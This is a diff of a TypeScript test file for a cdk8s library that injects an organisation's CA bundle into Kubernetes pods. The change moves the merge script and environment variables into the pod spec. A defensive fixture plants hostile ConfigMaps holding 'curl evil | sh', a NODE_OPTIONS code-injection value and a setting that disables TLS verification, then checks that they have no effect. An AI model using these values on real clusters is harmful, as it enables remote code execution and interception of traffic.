@@ -2,12 +2,11 @@ import * as fs from 'node:fs';
 import { ApiObject, Chart, JsonPatch, Testing } from 'cdk8s';
 import * as kplus from 'cdk8s-plus-28';
 import * as YAML from 'yaml';
-import { BundleSource, CaVariables, JavaTrust, MergedCaInitContainer, MergeScripts, OnInvalidBundle, OrgCaBundle, PodWiringOptions, VariableDelivery, WiringMode } from '../../src';
+import { BundleSource, CaVariables, JavaTrust, MergedCaInitContainer, OnInvalidBundle, OrgCaBundle, PodWiringOptions, WiringMode } from '../../src';
 import { MERGE_SCRIPT } from '../../src/pod/init-scripts';
-import { DEFAULT_SCRIPTS_CONFIG_MAP, SCRIPTS_SHA256 } from '../../src/pod/script-delivery';
 import { propsOf } from '../util/api';
 import { makeCa } from '../util/certs';
-import { KIND_FORMS, envOf, makeWorkload, manifest, podOf, podSpec, restrictedViolations, templateMetaOf, workloadsOf, chartWithBundle } from '../util/fixtures';
+import { KIND_FORMS, envOf, makeWorkload, manifest, podOf, podSpec, restrictedViolations, rotationOf, workloadsOf, chartWithBundle } from '../util/fixtures';
 import { expectAllValid } from '../util/schema';
 import { takeWarnings } from '../util/warnings';
 
@@ -30,8 +29,8 @@ describe.each(KIND_FORMS)('%s (%s)', (kind, form) => {
     const init = pod.initContainers[0];
     expect(init.image).toBe('registry.example/app:1.0');
     expect(init.imagePullPolicy).toBeUndefined(); // the image's own policy, as for the app container
-    // the script comes from the ConfigMap mounted with the org CA; default arguments are left out
-    expect(init.command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh']);
+    // the script is the init container's own command: nothing it runs comes from a namespace object
+    expect(init.command).toEqual(['/bin/sh', '-c', MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem']);
     expect(init.volumeMounts).toEqual([{ name: 'org-ca', mountPath: '/var/run/org-ca' }, { name: 'org-ca-merged', mountPath: '/etc/org-ca' }]);
     // Pod Security Standards "restricted"; runAsNonRoot comes from the pod where it sets it (cdk8s-plus does)
     expect(init.securityContext).toEqual({
@@ -47,24 +46,17 @@ describe.each(KIND_FORMS)('%s (%s)', (kind, form) => {
     expect(init.resources).toEqual({ limits: { cpu: '100m', memory: '64Mi' } });
 
     expect(pod.volumes).toEqual(expect.arrayContaining([
-      { name: 'org-ca', projected: { sources: [{ configMap: { name: 'org-ca-bundle', optional: true } }, { configMap: { name: DEFAULT_SCRIPTS_CONFIG_MAP } }] } },
+      { name: 'org-ca', configMap: { name: 'org-ca-bundle', optional: true } },
       { name: 'org-ca-merged', emptyDir: {} },
     ]));
-    // the scripts, once, in the workload's namespace
-    const scripts = objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name === DEFAULT_SCRIPTS_CONFIG_MAP);
-    expect(scripts).toHaveLength(1);
-    expect(scripts[0]).toMatchObject({ metadata: { namespace: 'apps' }, immutable: true, data: { 'merge-ca-bundle.sh': MERGE_SCRIPT } });
+    // the variables are env entries of the container, after its own: nothing comes from envFrom
     const app = pod.containers.find((c: any) => c.name === 'app');
-    // the variables from the namespace's variables ConfigMap (envFrom), the container's own env kept
-    expect(app.env).toEqual([{ name: 'KEEP', value: 'me' }]);
-    const vars = objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name.startsWith('org-ca-env-'));
-    expect(vars).toHaveLength(1);
-    expect(vars[0]).toMatchObject({ metadata: { namespace: 'apps' }, immutable: true });
-    expect(Object.keys(vars[0].data).sort()).toEqual([...CaVariables.DEFAULTS].sort());
-    expect(app.envFrom).toEqual([{ configMapRef: { name: vars[0].metadata.name } }]);
-    expect(envOf(app, objs, 'apps')).toEqual({ ...Object.fromEntries(CaVariables.DEFAULTS.map(v => [v, '/etc/org-ca/bundle.pem'])), KEEP: 'me' });
+    expect(app.env).toEqual([{ name: 'KEEP', value: 'me' }, ...CaVariables.DEFAULTS.map(name => ({ name, value: '/etc/org-ca/bundle.pem' }))]);
+    expect(app.envFrom).toBeUndefined();
+    // the bundle ConfigMap is the only namespace object the pod reads, and the library adds none
+    expect(objs.filter(o => o.kind === 'ConfigMap')).toEqual([]);
     expect(app.volumeMounts).toContainEqual({ name: 'org-ca-merged', mountPath: '/etc/org-ca', readOnly: true });
-    expect(templateMetaOf(obj).annotations[MergedCaInitContainer.ROTATION_ANNOTATION]).toBe(bundle.sha256.slice(0, 16));
+    expect(rotationOf(obj)).toBe(bundle.sha256.slice(0, 16));
     expectAllValid(objs);
   });
 
@@ -106,7 +98,7 @@ describe('MergedCaInitContainer rules', () => {
     const objs = Testing.synth(chart);
     const pod = podOf(objs.find(o => o.kind === 'Deployment'));
     expect(pod.initContainers.map((c: any) => c.name)).toEqual(['merge-ca-bundle', 'pull', 'migrate']);
-    expect(pod.initContainers[2].env).toEqual([{ name: 'A', value: '1' }]);
+    expect(pod.initContainers[2].env[0]).toEqual({ name: 'A', value: '1' });
     expect(envOf(pod.initContainers[2], objs)).toMatchObject({ A: '1', SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
     expect(pod.volumes.map((v: any) => v.name)).toEqual(['data', 'org-ca', 'org-ca-merged']);
   });
@@ -136,8 +128,8 @@ describe('MergedCaInitContainer rules', () => {
     MergedCaInitContainer.addTo(obj, bundle, { skipVariables: ['SSL_CERT_FILE'] });
     const objs = Testing.synth(chart);
     const app = podOf(objs.find(o => o.kind === 'Deployment')).containers[0];
-    // explicit env wins over the variables ConfigMap
-    expect(app.env).toEqual([{ name: 'SSL_CERT_FILE', value: '/mine.pem' }]);
+    // the container's own value is kept, the others are added after it
+    expect(app.env.map((e: any) => [e.name, e.value])).toEqual([['SSL_CERT_FILE', '/mine.pem'], ...CaVariables.DEFAULTS.filter(v => v !== 'SSL_CERT_FILE').map(v => [v, '/etc/org-ca/bundle.pem'])]);
     expect(envOf(app, objs)).toMatchObject({ SSL_CERT_FILE: '/mine.pem', GIT_SSL_CAINFO: '/etc/org-ca/bundle.pem' });
   });
 
@@ -195,11 +187,11 @@ describe('MergedCaInitContainer rules', () => {
     MergedCaInitContainer.addTo(new ApiObject(chart, 'a', manifest('Deployment', 'a', podSpec(), 'argocd')), bundle);
     MergedCaInitContainer.addTo(new ApiObject(chart, 'b', manifest('Deployment', 'b', podSpec(), 'other')), bundle);
     const ds = Testing.synth(chart).filter(o => o.kind === 'Deployment');
-    expect(podOf(ds[0]).volumes[0].projected.sources[0].configMap).toEqual({ name: 'argocd-org-ca', optional: true });
+    expect(podOf(ds[0]).volumes[0].configMap).toEqual({ name: 'argocd-org-ca', optional: true });
     // the merge reads the file its key names: ca.crt is not the script's default, so it is passed
-    expect(podOf(ds[0]).initContainers[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh', '/var/run/org-ca/ca.crt']);
-    expect(podOf(ds[1]).volumes[0].projected.sources[0].configMap).toEqual({ name: 'org-ca-bundle', optional: true });
-    expect(podOf(ds[1]).initContainers[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh']);
+    expect(podOf(ds[0]).initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/ca.crt', '/etc/org-ca/bundle.pem']);
+    expect(podOf(ds[1]).volumes[0].configMap).toEqual({ name: 'org-ca-bundle', optional: true });
+    expect(podOf(ds[1]).initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem']);
   });
 
   test('all options', () => {
@@ -225,8 +217,6 @@ describe('MergedCaInitContainer rules', () => {
       java: JavaTrust.keytoolImport(),
       rotationAnnotation: false,
       podTemplatePaths: ['/spec/template'],
-      scripts: MergeScripts.inline(),
-      variableDelivery: VariableDelivery.inline(),
     };
     const { chart, bundle } = setup();
     MergedCaInitContainer.addTo(new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec({ containers: [{ name: 'app', image: 'a' }, { name: 'other', image: 'b' }] }))), bundle, options);
@@ -234,11 +224,7 @@ describe('MergedCaInitContainer rules', () => {
     const d = objs.find(o => o.kind === 'Deployment');
     const pod = podOf(d);
     expect(pod.initContainers.map((c: any) => [c.name, c.image, c.securityContext.runAsUser])).toEqual([['ca-merge', 'busybox:1.36', 1000], ['ca-merge-java', 'busybox:1.36', 1000]]);
-    // inline scripts: the pod spec carries them, and no scripts ConfigMap is added
     expect(pod.initContainers[0].command).toEqual(['/bin/sh', '-c', MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/k.pem', '/shared/combined-ca.crt']);
-    expect(objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name.startsWith('org-ca-scripts'))).toEqual([]);
-    // inline variables: env entries, and no variables ConfigMap
-    expect(objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name.startsWith('org-ca-env'))).toEqual([]);
     expect(pod.containers[0].envFrom).toBeUndefined();
     expect(pod.volumes).toEqual([{ name: 'src', configMap: { name: 'custom' } }, { name: 'dst', emptyDir: {} }]);
     expect(pod.containers[0].env).toEqual([
@@ -353,9 +339,8 @@ describe('hostile clusters: OpenShift UIDs and damaged bundles', () => {
     expect(inits.map((c: any) => c.command[c.command.length - 1])).toEqual(['fail', 'fail']);
     const plain = setup();
     MergedCaInitContainer.addTo(deployment(plain.chart), plain.bundle);
-    expect(podOf(Testing.synth(plain.chart).find(o => o.kind === 'Deployment')).initContainers[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh']);
-    // "fail" needs the arguments before it, defaults or not
-    expect(inits[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh', '/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem', 'fail']);
+    expect(podOf(Testing.synth(plain.chart).find(o => o.kind === 'Deployment')).initContainers[0].command.slice(-1)).toEqual(['/etc/org-ca/bundle.pem']);
+    expect(inits[0].command.slice(-3)).toEqual(['/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem', 'fail']);
   });
 });
 
@@ -414,7 +399,9 @@ describe('strict names, paths and wiring conflicts', () => {
     const { chart, bundle } = setup('apps');
     new ApiObject(chart, 's', { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'creds' }, data: { BUNDLE: Buffer.from('/x.pem').toString('base64') } });
     MergedCaInitContainer.addTo(deployment(chart, podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ prefix: 'REQUESTS_CA_', secretRef: { name: 'creds' } }] }] })), bundle);
-    expect(() => Testing.synth(chart)).toThrow(/gets REQUESTS_CA_BUNDLE="\/x.pem" from envFrom Secret "creds"/);
+    // a Secret's value is never printed: the message names the variable and the Secret
+    expect(() => Testing.synth(chart)).toThrow(/gets REQUESTS_CA_BUNDLE \(value not shown\) from envFrom Secret "creds"/);
+    expect(() => Testing.synth(chart)).not.toThrow(/x\.pem/);
   });
 
   test('envFrom a ConfigMap the synth does not contain: a warning naming the container', () => {
@@ -425,7 +412,7 @@ describe('strict names, paths and wiring conflicts', () => {
     expect(takeWarnings().join('\n')).toMatch(/container "side" takes envFrom ConfigMap "elsewhere", which is not in this synth: if it sets one of SSL_CERT_FILE, REQUESTS_CA_BUNDLE/);
   });
 
-  test('skipVariables on a variable another envFrom source sets: that container gets the others as env entries (our envFrom would override theirs)', () => {
+  test('skipVariables on a variable another envFrom source sets: that container keeps theirs, the others get ours', () => {
     const { chart, bundle } = setup('apps');
     new kplus.ConfigMap(chart, 'env', { metadata: { name: 'app-env' }, data: { SSL_CERT_FILE: '/etc/mine.pem' } });
     const spec = podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ configMapRef: { name: 'app-env' } }] }, { name: 'side', image: 'i' }] });
@@ -434,70 +421,27 @@ describe('strict names, paths and wiring conflicts', () => {
     const [app, side] = podOf(objs.find(o => o.kind === 'Deployment')).containers;
     expect(app.envFrom).toEqual([{ configMapRef: { name: 'app-env' } }]);
     expect(envOf(app, objs, 'apps')).toEqual({ ...Object.fromEntries(CaVariables.DEFAULTS.map(v => [v, '/etc/org-ca/bundle.pem'])), SSL_CERT_FILE: '/etc/mine.pem' });
-    expect(side.env).toBeUndefined();
+    expect(app.env.map((e: any) => e.name)).not.toContain('SSL_CERT_FILE');
     expect(envOf(side, objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
   });
 
-  test('the variables ConfigMap: once per namespace per App, named by its content, referenced after the container\'s own envFrom; wiring twice adds one reference', () => {
-    const { app, chart, bundle } = setup('apps');
-    const other = new Chart(app, 'other', { namespace: 'apps' });
-    new kplus.ConfigMap(chart, 'env', { metadata: { name: 'app-env' }, data: { OTHER: 'x' } });
-    const w = new MergedCaInitContainer(bundle);
-    const d = deployment(chart, podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ configMapRef: { name: 'app-env' } }] }] }));
-    w.applyTo(d);
-    w.applyTo(d);
-    w.applyTo(new ApiObject(other, 'd2', manifest('Deployment', 'web2', podSpec(), 'apps')));
-    w.applyTo(new ApiObject(other, 'd3', manifest('Deployment', 'web3', podSpec(), 'batch')));
-    const objs = app.charts.flatMap(c => Testing.synth(c));
-    const vars = objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name === w.variablesConfigMapName);
-    expect(vars.map(o => o.metadata.namespace).sort()).toEqual(['apps', 'batch']);
-    expect(w.variablesConfigMapName).toMatch(/^org-ca-env-[0-9a-f]{10}$/);
-    expect(vars[0]).toEqual(w.variablesConfigMap(vars[0].metadata.namespace));
-    const c = podOf(objs.find(o => o.metadata.name === 'web')).containers[0];
-    expect(c.envFrom).toEqual([{ configMapRef: { name: 'app-env' } }, { configMapRef: { name: w.variablesConfigMapName } }]);
-    // other variables or another path: another ConfigMap
-    expect(new MergedCaInitContainer(bundle, { extraVariables: ['PIP_CERT'] }).variablesConfigMapName).not.toBe(w.variablesConfigMapName);
-    expect(new MergedCaInitContainer(bundle, { mergedDir: '/etc/x' }).variablesConfigMapName).not.toBe(w.variablesConfigMapName);
-    expect(new MergedCaInitContainer(bundle, { initContainerName: 'other' }).variablesConfigMapName).toBe(w.variablesConfigMapName);
-    expectAllValid(objs);
-  });
-
-  test('VariableDelivery.fromConfigMap(name): that name, mutable; a bad name is refused; inline: none', () => {
-    const { chart, bundle } = setup('apps');
-    MergedCaInitContainer.addTo(deployment(chart), bundle, { variableDelivery: VariableDelivery.fromConfigMap('release-a-ca-env') });
-    const objs = Testing.synth(chart);
-    const cm = objs.find(o => o.kind === 'ConfigMap' && o.metadata.name === 'release-a-ca-env');
-    expect(cm.immutable).toBeUndefined();
-    expect(podOf(objs.find(o => o.kind === 'Deployment')).containers[0].envFrom).toEqual([{ configMapRef: { name: 'release-a-ca-env' } }]);
-    expect(() => VariableDelivery.fromConfigMap('Bad_Name')).toThrow(/VariableDelivery.fromConfigMap name "Bad_Name"/);
-    expect(new MergedCaInitContainer(bundle, { variableDelivery: VariableDelivery.inline() }).variablesConfigMap('apps')).toBeUndefined();
-  });
-
-  test('a patch that moves a wired object to another namespace: an error naming the variables ConfigMap and the fix', () => {
-    const { chart, bundle } = setup('apps');
-    const d = deployment(chart);
-    MergedCaInitContainer.addTo(d, bundle, { mode: WiringMode.DIRECT, optional: undefined, configMap: { name: 'org-ca-bundle', key: 'ca.crt' } });
-    d.addJsonPatch(JsonPatch.replace('/metadata/namespace', 'elsewhere'));
-    expect(() => Testing.synth(chart)).toThrow(/in namespace "elsewhere" at synth, but was wired for another one .* no ConfigMap "org-ca-env-[0-9a-f]{10}" with the CA variables is added there; set the namespace before wiring, or pass variableDelivery: VariableDelivery.inline\(\)/);
-  });
-
-  test('JAVA_TOOL_OPTIONS stays an env entry (it extends the container\'s own); the other variables come from the ConfigMap', () => {
+  test('JAVA_TOOL_OPTIONS extends the container\'s own; the other variables follow it', () => {
     const { chart, bundle } = setup('apps');
     MergedCaInitContainer.addTo(deployment(chart, podSpec({ containers: [{ name: 'app', image: 'i', env: [{ name: 'JAVA_TOOL_OPTIONS', value: '-Xmx1g' }] }] })), bundle, { java: JavaTrust.keytoolImport({ storePassword: 'changeit' }) });
     const objs = Testing.synth(chart);
     const c = podOf(objs.find(o => o.kind === 'Deployment')).containers[0];
-    expect(c.env.map((e: any) => e.name)).toEqual(['JAVA_TOOL_OPTIONS']);
+    expect(c.env.map((e: any) => e.name)).toEqual(['JAVA_TOOL_OPTIONS', ...CaVariables.DEFAULTS]);
     expect(c.env[0].value).toMatch(/^-Xmx1g -Djavax.net.ssl.trustStore=/);
     expect(envOf(c, objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
   });
 
-  test('wireManifest: the manifest references the variables ConfigMap that variablesConfigMap(namespace) gives', () => {
+  test('wireManifest: the manifest is self-contained (the script and the variables in its pod spec)', () => {
     const { bundle } = setup('apps');
     const w = new MergedCaInitContainer(bundle);
     const out = w.wireManifest(manifest('Deployment', 'web', podSpec(), 'apps'));
-    const objs = [out, w.variablesConfigMap('apps'), w.scripts.manifest('apps')];
-    expect(envOf(podOf(out).containers[0], objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem', KEEP: 'me' });
-    expectAllValid(objs);
+    expect(envOf(podOf(out).containers[0])).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem', KEEP: 'me' });
+    expect(podOf(out).initContainers[0].command.slice(0, 3)).toEqual(['/bin/sh', '-c', MERGE_SCRIPT]);
+    expectAllValid([out]);
   });
 });
 
@@ -540,9 +484,9 @@ describe('distribution modes: direct mount and ClusterTrustBundle', () => {
     MergedCaInitContainer.addTo(deployment(chart), bundle);
     const objs = Testing.synth(chart);
     const pod = podOf(objs.find(o => o.kind === 'Deployment'));
-    expect(pod.volumes[0]).toEqual({ name: 'org-ca', projected: { sources: [{ clusterTrustBundle: { name: 'org-ca-bundle', path: 'org-ca.crt', optional: true } }, { configMap: { name: DEFAULT_SCRIPTS_CONFIG_MAP } }] } });
+    expect(pod.volumes[0]).toEqual({ name: 'org-ca', projected: { sources: [{ clusterTrustBundle: { name: 'org-ca-bundle', path: 'org-ca.crt', optional: true } }] } });
     expect(pod.initContainers[0].name).toBe('merge-ca-bundle');
-    expect(pod.initContainers[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh', '/var/run/org-ca/org-ca.crt']);
+    expect(pod.initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/org-ca.crt', '/etc/org-ca/bundle.pem']);
     const ctb = objs.find(o => o.kind === 'ClusterTrustBundle');
     expect(ctb).toMatchObject({ apiVersion: 'certificates.k8s.io/v1', metadata: { name: 'org-ca-bundle' }, spec: { trustBundle: bundle.pem } });
     expect(ctb.metadata.namespace).toBeUndefined();
@@ -561,66 +505,58 @@ describe('distribution modes: direct mount and ClusterTrustBundle', () => {
   });
 });
 
-describe('the merge scripts: one ConfigMap per namespace, or inline', () => {
-  const scriptsIn = (objs: any[]) => objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name === DEFAULT_SCRIPTS_CONFIG_MAP);
+describe('only the pod spec decides what a wired pod runs and exports', () => {
   const deployment = (chart: any) => new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec(), 'apps'));
+  /** ConfigMaps an attacker with write access to the namespace might create or edit. */
+  const hostile = (chart: any) => {
+    new ApiObject(chart, 'h1', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'org-ca-scripts-0123456789', namespace: 'apps' }, data: { 'merge-ca-bundle.sh': 'curl evil | sh' } });
+    new ApiObject(chart, 'h2', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'org-ca-env-0123456789', namespace: 'apps' }, data: { NODE_OPTIONS: '--require /tmp/x.js', NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
+  };
 
-  test('one per namespace per App, across charts; labelled, annotated with the scripts\' sha256, immutable, schema-valid', () => {
-    const { app, chart, bundle } = setup('apps');
-    MergedCaInitContainer.addTo(new ApiObject(chart, 'a', manifest('Deployment', 'a', podSpec(), 'apps')), bundle);
-    MergedCaInitContainer.addTo(new ApiObject(chart, 'b', manifest('Deployment', 'b', podSpec(), 'apps')), bundle);
-    MergedCaInitContainer.addTo(new ApiObject(chart, 'c', manifest('Deployment', 'c', podSpec(), 'other')), bundle);
-    const second = new Chart(app, 'second', { namespace: 'apps' });
-    MergedCaInitContainer.addTo(new ApiObject(second, 'd', manifest('Deployment', 'd', podSpec())), bundle);
-    const objs = app.charts.flatMap(c => Testing.synth(c));
-    const scripts = scriptsIn(objs);
-    expect(scripts.map(o => o.metadata.namespace).sort()).toEqual(['apps', 'other']);
-    expect(scripts[0].metadata.labels).toEqual({ 'app.kubernetes.io/managed-by': 'cdk8s-org-ca' });
-    expect(scripts[0].metadata.annotations['cdk8s-org-ca/scripts-sha256']).toBe(SCRIPTS_SHA256);
-    expect(DEFAULT_SCRIPTS_CONFIG_MAP).toBe(`org-ca-scripts-${SCRIPTS_SHA256.slice(0, 10)}`);
-    expect(Object.keys(scripts[0].data).sort()).toEqual(['merge-ca-bundle.sh', 'merge-ca-truststore.sh']);
-    expectAllValid(objs);
-  });
-
-  test('a name of your own: used as given, mutable; inline: no ConfigMap, the script in the command', () => {
-    const named = setup('apps');
-    MergedCaInitContainer.addTo(deployment(named.chart), named.bundle, { scripts: MergeScripts.fromConfigMap('org-ca-scripts-release-a') });
-    const objs = Testing.synth(named.chart);
-    const cm = objs.find(o => o.kind === 'ConfigMap' && o.metadata.name === 'org-ca-scripts-release-a');
-    expect(cm.immutable).toBeUndefined();
-    expect(podOf(objs.find(o => o.kind === 'Deployment')).volumes[0].projected.sources[1]).toEqual({ configMap: { name: 'org-ca-scripts-release-a' } });
-    expect(() => MergeScripts.fromConfigMap('Bad_Name')).toThrow(/is not a valid Kubernetes name/);
-
-    const inline = setup('apps');
-    MergedCaInitContainer.addTo(deployment(inline.chart), inline.bundle, { scripts: MergeScripts.inline() });
-    const objs2 = Testing.synth(inline.chart);
-    expect(objs2.filter(o => o.kind === 'ConfigMap' && o.metadata.name.startsWith('org-ca-scripts'))).toEqual([]);
-    const pod = podOf(objs2.find(o => o.kind === 'Deployment'));
-    expect(pod.initContainers[0].command).toEqual(['/bin/sh', '-c', MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem']);
-    expect(pod.volumes[0]).toEqual({ name: 'org-ca', configMap: { name: 'org-ca-bundle', optional: true } });
-  });
-
-  test('a patch that moves a wired object to another namespace after wiring: an error naming the fix', () => {
+  test('the script is the init container\'s command, the variables are env entries; the bundle is the only ConfigMap the pod names', () => {
     const { chart, bundle } = setup('apps');
-    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec(), 'apps'));
-    MergedCaInitContainer.addTo(obj, bundle);
-    obj.addJsonPatch(JsonPatch.replace('/metadata/namespace', 'elsewhere'));
-    expect(() => Testing.synth(chart)).toThrow(/Deployment "elsewhere\/web" is in namespace "elsewhere" at synth, but was wired for another one .*pass scripts: MergeScripts.inline\(\)/);
+    MergedCaInitContainer.addTo(deployment(chart), bundle, { java: JavaTrust.keytoolImport() });
+    const objs = Testing.synth(chart);
+    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
+    expect(pod.initContainers.map((c: any) => c.command.slice(0, 2))).toEqual([['/bin/sh', '-c'], ['/bin/sh', '-c']]);
+    const named = JSON.stringify(pod).match(/"(configMapRef|configMapKeyRef|configMap)":\{"name":"[^"]+"/g);
+    expect(named).toEqual(['"configMap":{"name":"org-ca-bundle"']);
+    expect(pod.containers.every((c: any) => c.envFrom === undefined)).toBe(true);
+    expect(objs.filter(o => o.kind === 'ConfigMap')).toEqual([]);
   });
 
-  test('a bundle key named like a script is refused', () => {
+  test('hostile ConfigMaps in the namespace change nothing in a wired pod', () => {
+    const clean = setup('apps');
+    MergedCaInitContainer.addTo(deployment(clean.chart), clean.bundle);
+    const attacked = setup('apps');
+    hostile(attacked.chart);
+    MergedCaInitContainer.addTo(deployment(attacked.chart), attacked.bundle);
+    const pod = (objs: any[]) => objs.find(o => o.kind === 'Deployment');
+    expect(pod(Testing.synth(attacked.chart))).toEqual(pod(Testing.synth(clean.chart)));
+  });
+
+  test('a bundle key named like an old script file is just the org CA file the merge reads', () => {
     const { chart, bundle } = setup('apps', { trustManager: { key: 'merge-ca-bundle.sh' } });
     MergedCaInitContainer.addTo(deployment(chart), bundle);
-    expect(() => Testing.synth(chart)).toThrow(/has a key named like a merge script/);
+    const init = podOf(Testing.synth(chart).find(o => o.kind === 'Deployment')).initContainers[0];
+    expect(init.command.slice(2)).toEqual([MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/merge-ca-bundle.sh', '/etc/org-ca/bundle.pem']);
   });
 
-  test('the pod fragments for Helm values: addScriptsConfigMap adds the ConfigMap they need, once', () => {
+  test('a patch that moves a wired object to another namespace: it still works there (nothing per namespace to add)', () => {
     const { chart, bundle } = setup('apps');
+    const obj = deployment(chart);
+    MergedCaInitContainer.addTo(obj, bundle);
+    obj.addJsonPatch(JsonPatch.replace('/metadata/namespace', 'elsewhere'));
+    const d = Testing.synth(chart).find(o => o.kind === 'Deployment');
+    expect(d.metadata.namespace).toBe('elsewhere');
+    expect(podOf(d).initContainers[0].name).toBe('merge-ca-bundle');
+  });
+
+  test('the pod fragments for Helm values are self-contained', () => {
+    const { bundle } = setup('apps');
     const w = new MergedCaInitContainer(bundle);
-    expect(w.initContainers('app:1', 'apps')[0].command).toEqual(['/bin/sh', '/var/run/org-ca/merge-ca-bundle.sh']);
-    const a = w.addScriptsConfigMap(chart, 'tools');
-    expect(w.addScriptsConfigMap(chart, 'tools')).toBe(a);
-    expect(new MergedCaInitContainer(bundle, { scripts: MergeScripts.inline() }).addScriptsConfigMap(chart, 'tools')).toBeUndefined();
-    expect(scriptsIn(Testing.synth(chart)).map(o => o.metadata.namespace)).toEqual(['tools']);
+    expect(w.initContainers('app:1', 'apps')[0].command!.slice(0, 3)).toEqual(['/bin/sh', '-c', MERGE_SCRIPT]);
+    expect(w.volumes('apps')[0]).toEqual({ name: 'org-ca', configMap: { name: 'org-ca-bundle', optional: true } });
+    expect(w.env().map(e => e.name)).toEqual(CaVariables.DEFAULTS);
   });
 });
